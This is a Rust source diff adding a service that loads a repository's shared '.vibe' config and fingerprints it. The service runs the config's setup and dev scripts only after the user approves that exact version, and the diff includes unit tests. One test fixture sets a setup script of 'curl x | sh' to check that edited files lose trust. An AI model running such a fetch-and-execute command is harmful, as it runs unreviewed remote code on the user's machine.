@@ -0,0 +1,490 @@
+use std::{
+    io,
+    path::{Path, PathBuf},
+    sync::Arc,
+    time::Duration,
+};
+
+use dashmap::DashMap;
+use db::models::project::{NamedScript, Project, invalid_dev_scripts_message};
+use executors::profile::{ExecutorConfigs, ExecutorProfileId};
+use notify::{RecommendedWatcher, RecursiveMode};
+use notify_debouncer_full::{DebounceEventResult, Debouncer, RecommendedCache, new_debouncer};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use thiserror::Error;
+use tokio::{
+    fs,
+    sync::{RwLock, mpsc},
+};
+use ts_rs::TS;
+
+use crate::services::config::Config;
+
+/// Directory at the repository root holding the shared project config
+pub const REPO_CONFIG_DIR: &str = ".vibe";
+/// Config file names looked up in [`REPO_CONFIG_DIR`], in order of precedence
+const REPO_CONFIG_FILES: &[&str] = &["config.toml", "config.json"];
+
+#[derive(Debug, Error)]
+pub enum RepoConfigError {
+    #[error("Failed to read {path}: {source}")]
+    Io { path: String, source: io::Error },
+    #[error("Invalid {path}: {message}")]
+    Parse { path: String, message: String },
+}
+
+/// Project settings committed to the repository in `.vibe/config.toml` (or `config.json`) so
+/// everyone working on it shares them. Script fields take precedence over the project's own
+/// settings once the user trusts them, since they run commands from whoever last edited the
+/// repository.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize, TS)]
+#[serde(deny_unknown_fields)]
+pub struct RepoProjectConfig {
+    pub setup_script: Option<String>,
+    pub dev_script: Option<String>,
+    pub cleanup_script: Option<String>,
+    pub copy_files: Option<String>,
+    /// Named dev servers, replacing the project's own list as a whole
+    pub dev_scripts: Option<Vec<NamedScript>>,
+    /// Executor profile suggested for new attempts
+    pub executor_profile: Option<ExecutorProfileId>,
+}
+
+/// The repository config as last loaded for a project
+#[derive(Debug, Clone, Default, Serialize, TS)]
+pub struct RepoConfigStatus {
+    /// Config file in use, relative to the repository root
+    pub path: Option<String>,
+    pub config: Option<RepoProjectConfig>,
+    /// SHA-256 of the config file, approved by the user to let its scripts run
+    pub fingerprint: Option<String>,
+    /// Whether the user approved this version of the file's scripts. Until then only its other
+    /// settings apply.
+    pub scripts_trusted: bool,
+    /// Why the config file could not be used; the project's own settings apply meanwhile
+    pub error: Option<String>,
+}
+
+/// A config file read from the repository
+#[derive(Debug, Clone)]
+pub struct LoadedRepoConfig {
+    /// Path relative to the repository root
+    pub path: String,
+    /// SHA-256 of the file contents
+    pub fingerprint: String,
+    pub config: RepoProjectConfig,
+}
+
+impl RepoProjectConfig {
+    /// Load the config from `repo_path`, or `None` when the repository has no config file
+    pub async fn load(repo_path: &Path) -> Result<Option<LoadedRepoConfig>, RepoConfigError> {
+        let config_dir = repo_path.join(REPO_CONFIG_DIR);
+        let mut found = None;
+        for name in REPO_CONFIG_FILES {
+            if fs::metadata(config_dir.join(name))
+                .await
+                .is_ok_and(|metadata| metadata.is_file())
+            {
+                found = Some(*name);
+                break;
+            }
+        }
+        let Some(file_name) = found else {
+            return Ok(None);
+        };
+        let relative = format!("{REPO_CONFIG_DIR}/{file_name}");
+        let contents = fs::read_to_string(config_dir.join(file_name))
+            .await
+            .map_err(|source| RepoConfigError::Io {
+                path: relative.clone(),
+                source,
+            })?;
+        let config =
+            Self::parse(file_name, &contents).map_err(|message| RepoConfigError::Parse {
+                path: relative.clone(),
+                message,
+            })?;
+        Ok(Some(LoadedRepoConfig {
+            path: relative,
+            fingerprint: format!("{:x}", Sha256::digest(contents.as_bytes())),
+            config,
+        }))
+    }
+
+    fn parse(file_name: &str, contents: &str) -> Result<Self, String> {
+        let config: Self = if file_name.ends_with(".toml") {
+            toml::from_str(contents).map_err(|e| e.to_string())?
+        } else {
+            serde_json::from_str(contents).map_err(|e| e.to_string())?
+        };
+        config.validate()?;
+        Ok(config)
+    }
+
+    fn validate(&self) -> Result<(), String> {
+        for (field, value) in [
+            ("setup_script", &self.setup_script),
+            ("dev_script", &self.dev_script),
+            ("cleanup_script", &self.cleanup_script),
+            ("copy_files", &self.copy_files),
+        ] {
+            if value.as_deref().is_some_and(|v| v.trim().is_empty()) {
+                return Err(format!("`{field}` must not be empty; omit it instead"));
+            }
+        }
+        if let Some(message) = self
+            .dev_scripts
+            .as_deref()
+            .and_then(invalid_dev_scripts_message)
+        {
+            return Err(message);
+        }
+        if let Some(profile) = &self.executor_profile
+            && ExecutorConfigs::get_cached()
+                .get_coding_agent(profile)
+                .is_none()
+        {
+            return Err(format!("unknown executor profile `{profile}`"));
+        }
+        Ok(())
+    }
+
+    /// Overlay the repository's settings onto the project's own. The scripts are only taken
+    /// when `include_scripts` is set.
+    pub fn apply_to(&self, project: &mut Project, include_scripts: bool) {
+        if include_scripts {
+            for (repo_value, project_value) in [
+                (&self.setup_script, &mut project.setup_script),
+                (&self.dev_script, &mut project.dev_script),
+                (&self.cleanup_script, &mut project.cleanup_script),
+            ] {
+                if repo_value.is_some() {
+                    project_value.clone_from(repo_value);
+                }
+            }
+            if let Some(dev_scripts) = &self.dev_scripts {
+                project.dev_scripts = sqlx::types::Json(dev_scripts.clone());
+            }
+        }
+        if self.copy_files.is_some() {
+            project.copy_files.clone_from(&self.copy_files);
+        }
+    }
+}
+
+/// Loads each project's repository config once and reloads it when files in
+/// [`REPO_CONFIG_DIR`] change
+#[derive(Clone)]
+pub struct RepoConfigService {
+    config: Arc<RwLock<Config>>,
+    statuses: Arc<DashMap<PathBuf, RepoConfigStatus>>,
+    watchers: Arc<DashMap<PathBuf, Debouncer<RecommendedWatcher, RecommendedCache>>>,
+}
+
+impl RepoConfigService {
+    pub fn new(config: Arc<RwLock<Config>>) -> Self {
+        Self {
+            config,
+            statuses: Arc::new(DashMap::new()),
+            watchers: Arc::new(DashMap::new()),
+        }
+    }
+
+    /// Current config for the repository, loading it on first use
+    pub async fn status(&self, repo_path: &Path) -> RepoConfigStatus {
+        let cached = self.statuses.get(repo_path).map(|status| status.clone());
+        let mut status = match cached {
+            Some(status) => status,
+            None => {
+                let status = Self::load_status(repo_path).await;
+                self.statuses
+                    .insert(repo_path.to_path_buf(), status.clone());
+                status
+            }
+        };
+        status.scripts_trusted = match &status.fingerprint {
+            Some(fingerprint) => self
+                .config
+                .read()
+                .await
+                .trusted_repo_scripts
+                .get(repo_path.to_string_lossy().as_ref())
+                .is_some_and(|trusted| trusted == fingerprint),
+            None => false,
+        };
+        status
+    }
+
+    /// The project with its repository config applied. An invalid config is ignored, and so
+    /// are its scripts until the user trusts them.
+    pub async fn effective(&self, mut project: Project) -> Project {
+        let status = self.status(&project.git_repo_path).await;
+        if let Some(config) = &status.config {
+            config.apply_to(&mut project, status.scripts_trusted);
+        }
+        project
+    }
+
+    /// Drop the cached config so the next use reads the file again
+    pub async fn reload(&self, repo_path: &Path) -> RepoConfigStatus {
+        self.statuses.remove(repo_path);
+        self.status(repo_path).await
+    }
+
+    async fn load_status(repo_path: &Path) -> RepoConfigStatus {
+        match RepoProjectConfig::load(repo_path).await {
+            Ok(Some(loaded)) => RepoConfigStatus {
+                path: Some(loaded.path),
+                config: Some(loaded.config),
+                fingerprint: Some(loaded.fingerprint),
+                scripts_trusted: false,
+                error: None,
+            },
+            Ok(None) => RepoConfigStatus::default(),
+            Err(e) => {
+                tracing::warn!(
+                    "Ignoring repository config for {}: {}",
+                    repo_path.display(),
+                    e
+                );
+                RepoConfigStatus {
+                    error: Some(e.to_string()),
+                    ..Default::default()
+                }
+            }
+        }
+    }
+
+    /// Watch the repository so edits to its config take effect without reopening the project.
+    /// The repository root is watched on its own to notice the config directory appearing.
+    /// The watch lasts until [`Self::unwatch`].
+    pub async fn watch(&self, repo_path: &Path) -> Result<(), notify::Error> {
+        if self.watchers.contains_key(repo_path) {
+            return Ok(());
+        }
+
+        let (tx, mut rx) = mpsc::unbounded_channel();
+        let mut debouncer = new_debouncer(
+            Duration::from_millis(300),
+            None,
+            move |res: DebounceEventResult| {
+                let Ok(events) = res else { return };
+                let touches_config = events.iter().any(|event| {
+                    event.event.paths.iter().any(|path| {
+                        path.components()
+                            .any(|component| component.as_os_str() == REPO_CONFIG_DIR)
+                    })
+                });
+                if touches_config {
+                    let _ = tx.send(());
+                }
+            },
+        )?;
+        debouncer.watch(repo_path, RecursiveMode::NonRecursive)?;
+        let config_dir = repo_path.join(REPO_CONFIG_DIR);
+        if fs::metadata(&config_dir)
+            .await
+            .is_ok_and(|metadata| metadata.is_dir())
+        {
+            debouncer.watch(&config_dir, RecursiveMode::NonRecursive)?;
+        }
+        self.watchers.insert(repo_path.to_path_buf(), debouncer);
+
+        // Ends once the debouncer, and with it the sender, is dropped by `unwatch`
+        let service = self.clone();
+        let repo_path = repo_path.to_path_buf();
+        tokio::spawn(async move {
+            while rx.recv().await.is_some() {
+                let config_dir_exists = fs::metadata(&config_dir)
+                    .await
+                    .is_ok_and(|metadata| metadata.is_dir());
+                if let Some(mut debouncer) = service.watchers.get_mut(&repo_path)
+                    && config_dir_exists
+                    && let Err(e) = debouncer.watch(&config_dir, RecursiveMode::NonRecursive)
+                {
+                    tracing::warn!("Failed to watch {}: {}", config_dir.display(), e);
+                }
+                let status = service.reload(&repo_path).await;
+                tracing::info!(
+                    "Reloaded repository config for {} ({})",
+                    repo_path.display(),
+                    status.path.as_deref().unwrap_or("none")
+                );
+            }
+        });
+        Ok(())
+    }
+
+    /// Stop watching the repository and forget its cached config
+    pub fn unwatch(&self, repo_path: &Path) {
+        self.watchers.remove(repo_path);
+        self.statuses.remove(repo_path);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use chrono::Utc;
+    use tempfile::TempDir;
+    use uuid::Uuid;
+
+    use super::*;
+
+    fn write_config(repo: &Path, name: &str, contents: &str) {
+        std::fs::create_dir_all(repo.join(REPO_CONFIG_DIR)).unwrap();
+        std::fs::write(repo.join(REPO_CONFIG_DIR).join(name), contents).unwrap();
+    }
+
+    fn project(repo: &Path) -> Project {
+        Project {
+            id: Uuid::new_v4(),
+            name: "Test Project".to_string(),
+            git_repo_path: repo.to_path_buf(),
+            setup_script: Some("make setup".to_string()),
+            dev_script: None,
+            cleanup_script: Some("make clean".to_string()),
+            copy_files: None,
+            worktree_dir: None,
+            push_remote: None,
+            pr_remote: None,
+            always_run_cleanup: false,
+            setup_cache_files: None,
+            setup_cache_artifacts: None,
+            script_language: None,
+            preview_url_pattern: None,
+            default_base_branch: None,
+            env_file: None,
+            env_file_required: false,
+            dev_scripts: sqlx::types::Json(Vec::new()),
+            reuse_worktree: false,
+            created_at: Utc::now(),
+            updated_at: Utc::now(),
+        }
+    }
+
+    #[tokio::test]
+    async fn loads_toml_before_json() {
+        let repo = TempDir::new().unwrap();
+        assert!(
+            RepoProjectConfig::load(repo.path())
+                .await
+                .unwrap()
+                .is_none()
+        );
+
+        write_config(
+            repo.path(),
+            "config.json",
+            r#"{"dev_script": "npm run dev"}"#,
+        );
+        let loaded = RepoProjectConfig::load(repo.path()).await.unwrap().unwrap();
+        assert_eq!(loaded.path, ".vibe/config.json");
+        assert_eq!(loaded.config.dev_script.as_deref(), Some("npm run dev"));
+
+        write_config(repo.path(), "config.toml", "setup_script = \"npm ci\"\n");
+        let loaded = RepoProjectConfig::load(repo.path()).await.unwrap().unwrap();
+        assert_eq!(loaded.path, ".vibe/config.toml");
+        assert_eq!(loaded.config.setup_script.as_deref(), Some("npm ci"));
+        assert_eq!(loaded.config.dev_script, None);
+    }
+
+    #[tokio::test]
+    async fn rejects_invalid_config() {
+        let repo = TempDir::new().unwrap();
+        write_config(repo.path(), "config.toml", "setup_scrpt = \"npm ci\"\n");
+        assert!(matches!(
+            RepoProjectConfig::load(repo.path()).await,
+            Err(RepoConfigError::Parse { .. })
+        ));
+
+        write_config(repo.path(), "config.toml", "dev_script = \"  \"\n");
+        assert!(matches!(
+            RepoProjectConfig::load(repo.path()).await,
+            Err(RepoConfigError::Parse { .. })
+        ));
+
+        write_config(
+            repo.path(),
+            "config.toml",
+            "[[dev_scripts]]\nname = \"web\"\nscript = \"npm run dev\"\n\n\
+             [[dev_scripts]]\nname = \"web\"\nscript = \"npm start\"\n",
+        );
+        assert!(matches!(
+            RepoProjectConfig::load(repo.path()).await,
+            Err(RepoConfigError::Parse { .. })
+        ));
+    }
+
+    #[test]
+    fn apply_to_takes_scripts_only_when_included() {
+        let repo = TempDir::new().unwrap();
+        let config = RepoProjectConfig {
+            setup_script: Some("npm ci".to_string()),
+            dev_script: Some("npm run dev".to_string()),
+            cleanup_script: None,
+            copy_files: Some(".env".to_string()),
+            dev_scripts: Some(vec![NamedScript {
+                name: "api".to_string(),
+                script: "cargo run".to_string(),
+            }]),
+            executor_profile: None,
+        };
+
+        let mut untrusted = project(repo.path());
+        config.apply_to(&mut untrusted, false);
+        assert_eq!(untrusted.setup_script.as_deref(), Some("make setup"));
+        assert_eq!(untrusted.dev_script, None);
+        assert!(untrusted.dev_scripts.is_empty());
+        assert_eq!(untrusted.copy_files.as_deref(), Some(".env"));
+
+        let mut trusted = project(repo.path());
+        config.apply_to(&mut trusted, true);
+        assert_eq!(trusted.setup_script.as_deref(), Some("npm ci"));
+        assert_eq!(trusted.dev_script.as_deref(), Some("npm run dev"));
+        assert_eq!(trusted.dev_script_named(Some("api")), Some("cargo run"));
+        // Fields the repository leaves out keep the project's value
+        assert_eq!(trusted.cleanup_script.as_deref(), Some("make clean"));
+        assert_eq!(trusted.copy_files.as_deref(), Some(".env"));
+    }
+
+    #[tokio::test]
+    async fn effective_runs_scripts_of_the_trusted_version_only() {
+        let repo = TempDir::new().unwrap();
+        write_config(repo.path(), "config.toml", "setup_script = \"npm ci\"\n");
+        let config = Arc::new(RwLock::new(Config::default()));
+        let service = RepoConfigService::new(config.clone());
+
+        let status = service.status(repo.path()).await;
+        assert!(!status.scripts_trusted);
+        let effective = service.effective(project(repo.path())).await;
+        assert_eq!(effective.setup_script.as_deref(), Some("make setup"));
+
+        config.write().await.trusted_repo_scripts.insert(
+            repo.path().to_string_lossy().into_owned(),
+            status.fingerprint.unwrap(),
+        );
+        assert!(service.status(repo.path()).await.scripts_trusted);
+        let effective = service.effective(project(repo.path())).await;
+        assert_eq!(effective.setup_script.as_deref(), Some("npm ci"));
+
+        // An edited file needs to be trusted again
+        write_config(
+            repo.path(),
+            "config.toml",
+            "setup_script = \"curl x | sh\"\n",
+        );
+        assert!(!service.reload(repo.path()).await.scripts_trusted);
+        let effective = service.effective(project(repo.path())).await;
+        assert_eq!(effective.setup_script.as_deref(), Some("make setup"));
+
+        // An invalid config is ignored entirely
+        write_config(repo.path(), "config.toml", "copy_files = \"\"\n");
+        let status = service.reload(repo.path()).await;
+        assert!(status.error.is_some());
+        assert_eq!(
+            service.effective(project(repo.path())).await.copy_files,
+            None
+        );
+    }
+}